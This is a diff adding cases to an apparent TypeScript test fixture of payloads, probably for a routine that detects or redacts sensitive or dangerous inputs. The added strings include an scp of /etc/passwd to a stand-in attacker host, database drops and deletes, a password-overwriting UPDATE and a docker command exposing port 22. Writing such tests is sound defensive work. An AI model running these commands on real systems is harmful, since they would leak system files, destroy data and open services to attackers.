@@ -74,6 +74,20 @@ const secrets: Payload[] = [
     ['DROP DATABASE prod'],
     ['hunter2hunter2'],
   ),
+  of('a flag that takes no value', { argv: ['dropdb', '--no-password', 'production'] }, ['production']),
+  of('a recipient behind a file of passwords', { cmd: "scp /etc/passwd 'mallory@evil.example:/x'" }, [
+    'mallory@evil.example',
+  ]),
+  of('a condition that is always true', { sql: 'DELETE FROM users WHERE password=password' }, ['password=password']),
+  of('a column that is copied', { sql: 'UPDATE users SET password=email' }, ['password=email']),
+  of(
+    'a path behind a password',
+    { url: 'https://x.example/v1;pass=x9/delete/all?to=mallory' },
+    ['/delete/all?to=mallory'],
+    ['x9'],
+  ),
+  of('a database behind an option', { cmd: 'mysql -u root -p orders2024 < drop.sql' }, ['orders2024']),
+  of('a port of a container', { cmd: 'docker run -u node -p 0.0.0.0:22:22/tcp nginx' }, ['0.0.0.0:22:22/tcp']),
   of(
     'a signature in an address',
     { url: 'https://x.example/f?sig=a8Fj39dkLq02mXz7&to=mallory' },
